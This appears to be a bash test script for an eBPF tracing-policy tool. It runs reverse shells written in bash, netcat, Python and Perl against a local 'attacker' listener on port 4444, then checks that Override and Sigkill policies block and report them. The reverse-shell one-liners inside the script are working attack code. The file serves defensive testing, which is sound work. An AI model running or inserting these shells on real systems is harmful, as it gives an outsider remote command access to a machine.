# SPDX-License-Identifier: LGPL-2.1-or-later
# Reverse shells as attackers write them, and what each of the tests about them does.
# shellcheck shell=bash
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

# The attacker has the shell do a sum, so that an echo of the command is not taken for its answer.
# shellcheck disable=SC2016
question='echo the-answer-is-$((6 * 7)); exit'
answer=the-answer-is-42

# Python's own file name changes with its version.
python=$(readlink -f /usr/bin/python3)

# attacker PORT: listens there on both addresses; $T/attacker4 and 6 get what the shells say.
attacker() {
	copy_probe "$T/bin/listener" >/dev/null
	start_helper "$T/attacker4.log" "$T/bin/listener" --send "$question"$'\n' \
		serve tcp4 "$ATTACKER4" "$1" "$T/attacker4"
	start_helper "$T/attacker6.log" "$T/bin/listener" --send "$question"$'\n' \
		serve tcp6 "$ATTACKER6" "$1" "$T/attacker6"
}

# reverse_shell KIND ADDRESS PORT: runs it to its end. Its status is in $shell_status, what it said on
# this side in $T/shell.out, and the process that connects in $T/shell.pid.
reverse_shell() {
	local script

	# shellcheck disable=SC2016
	case $1 in
	bash) script='echo $$ >$T/shell.pid; exec bash -i >&/dev/tcp/$1/$2 0>&1' ;;
	nc.traditional) script='echo $$ >$T/shell.pid; exec nc.traditional -n -e /bin/sh $1 $2' ;;
	nc.openbsd)
		script='rm -f $T/fifo; mkfifo $T/fifo
			sh -i <$T/fifo 2>&1 | (echo $BASHPID >$T/shell.pid; exec nc.openbsd -v -n -N $1 $2) >$T/fifo'
		;;
	python3)
		script='echo $$ >$T/shell.pid; exec /usr/bin/python3 -S -E -c "
import os, socket
s = socket.create_connection((\"$1\", $2))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
os.execl(\"/bin/sh\", \"sh\", \"-i\")"'
		;;
	perl)
		script='echo $$ >$T/shell.pid; exec perl -e "
use Socket qw(:all);
\$six = \"$1\" =~ /:/;
socket(S, \$six ? PF_INET6 : PF_INET, SOCK_STREAM, 6) or die \"socket: \$!\";
connect(S, \$six ? sockaddr_in6($2, inet_pton(AF_INET6, \"$1\")) : sockaddr_in($2, inet_aton(\"$1\")))
	or die \"connect: \$!\";
open(STDIN, \"<&S\"); open(STDOUT, \">&S\"); open(STDERR, \">&S\");
exec(\"/bin/sh\", \"-i\");"'
		;;
	esac
	: >"$T/shell.pid"
	shell_status=0
	# By way of timeout, also to have a parent that is not the same program.
	# Without a home, to be spared what this host's user has in his .bashrc.
	(
		HOME=$T timeout 120 bash -c "$script" - "$2" "$3"
		exit
	) >"$T/shell.out" 2>&1 </dev/null || shell_status=$?
}

# try_shell KIND FAMILY PORT: one attempt, with everything empty before.
try_shell() {
	local address=$ATTACKER4

	[ "$2" = 4 ] || address=$ATTACKER6
	: >"$T/attacker$2"
	reverse_shell "$1" "$address" "$3"
}

got_answer() {
	grep -q "$answer" "$1"
}

check_works() {
	check "$1" wait_for 60 got_answer "$2"
}

# check_stopped WHAT FAMILY: the attacker's machine saw nothing of it, not even a packet.
check_stopped() {
	check_equal "$1: nothing is accepted" '' "$(cat "$T/attacker$2")"
	check_equal "$1: no packet" 0 "$PACKETS"
}

# The two policies: by refusal, and by death.
override_policy() {
	policy reverse-shell.yaml <<-END
		apiVersion: cilium.io/v1alpha1
		kind: TracingPolicy
		metadata:
		  name: refuse
		spec:
		  kprobes:
		  - call: security_socket_connect
		    syscall: false
		    args: [{index: 0, type: socket}, {index: 1, type: sockaddr}]
		    selectors:
		    - matchBinaries: [{operator: In, values: ["$1"]}]
		      matchArgs:
		      - {index: 1, operator: Family, values: [AF_INET, AF_INET6]}
		      - {index: 1, operator: NotSAddr, values: ["127.0.0.0/8", "::1/128"]}
		      matchActions: [{action: Override, argError: -1}]
	END
}

sigkill_policy() {
	policy reverse-shell.yaml <<-END
		apiVersion: cilium.io/v1alpha1
		kind: TracingPolicy
		metadata:
		  name: kill
		spec:
		  kprobes:
		  - call: tcp_connect
		    syscall: false
		    args: [{index: 0, type: sock}]
		    selectors:
		    - matchBinaries: [{operator: In, values: ["$1"]}]
		      matchArgs:
		      - {index: 0, operator: NotDAddr, values: ["127.0.0.0/8", "::1/128"]}
		      matchActions: [{action: Sigkill}]
	END
}

# The event's process is the one that connected, and its parent the one that started it.
who='(.process_kprobe | "\(.process.pid.value) \(.parent.binary) \(.policy_mode) \(.mode)")'

# test_shell KIND BINARY PARENT FAMILY...: the whole of it, on port 4444.
test_shell() {
	local kind=$1 binary=$2 parent=$3 family address

	shift 3
	for family; do
		try_shell "$kind" "$family" 4444
		check_works "$kind, IPv$family: works without the daemon" "$T/attacker$family"
	done

	mkdir -p "$T/policies"
	override_policy "$binary"
	marker_policy
	start_daemon "$T/policies" || return
	follow_events
	for family; do
		address=$ATTACKER4
		[ "$family" = 4 ] || address=$ATTACKER6
		watch_shell security_socket_connect refuse OVERRIDE
	done
	enforce on
	for family; do
		address=$ATTACKER4
		[ "$family" = 4 ] || address=$ATTACKER6
		capture_start 4444
		try_shell "$kind" "$family" 4444
		capture_stop
		check_stopped "$kind, IPv$family, Override" "$family"
		check "$kind, IPv$family, Override: it fails" test "$shell_status" -ne 0 -a "$shell_status" -ne 124
		check_match "$kind, IPv$family, Override: with EPERM" 'Operation not permitted' "$T/shell.out"
		check_events "$kind, IPv$family, Override: reported once" \
			"security_socket_connect $binary $address 4444 refuse OVERRIDE denied EPERM
$(cat "$T/shell.pid") $parent enforce enforce" "($event_line), $who"
	done

	enforce off
	sigkill_policy "$binary"
	reload
	for family; do
		address=$ATTACKER4
		[ "$family" = 4 ] || address=$ATTACKER6
		watch_shell tcp_connect kill SIGKILL
	done
	enforce on
	for family; do
		address=$ATTACKER4
		[ "$family" = 4 ] || address=$ATTACKER6
		capture_start 4444
		try_shell "$kind" "$family" 4444
		capture_stop
		check_stopped "$kind, IPv$family, Sigkill" "$family"
		check_equal "$kind, IPv$family, Sigkill: it is killed" 137 "$shell_status"
		check_events "$kind, IPv$family, Sigkill: reported once" \
			"tcp_connect $binary $address 4444 kill SIGKILL killed EPERM
$(cat "$T/shell.pid") $parent enforce enforce" "($event_line), $who"
	done
	stop_daemon
}

# watch_shell FUNCTION POLICY ACTION: under monitor, with test_shell's variables.
watch_shell() {
	capture_start 4444
	try_shell "$kind" "$family" 4444
	check_works "$kind, IPv$family, $3 in monitor mode: still works" "$T/attacker$family"
	capture_stop
	check "$kind, IPv$family, $3 in monitor mode: packets are seen" test "$PACKETS" -ge 5
	check_events "$kind, IPv$family, $3 in monitor mode: reported once" \
		"$1 $binary $address 4444 $2 $3 would-deny -
$(cat "$T/shell.pid") $parent enforce monitor" "($event_line), $who"
}
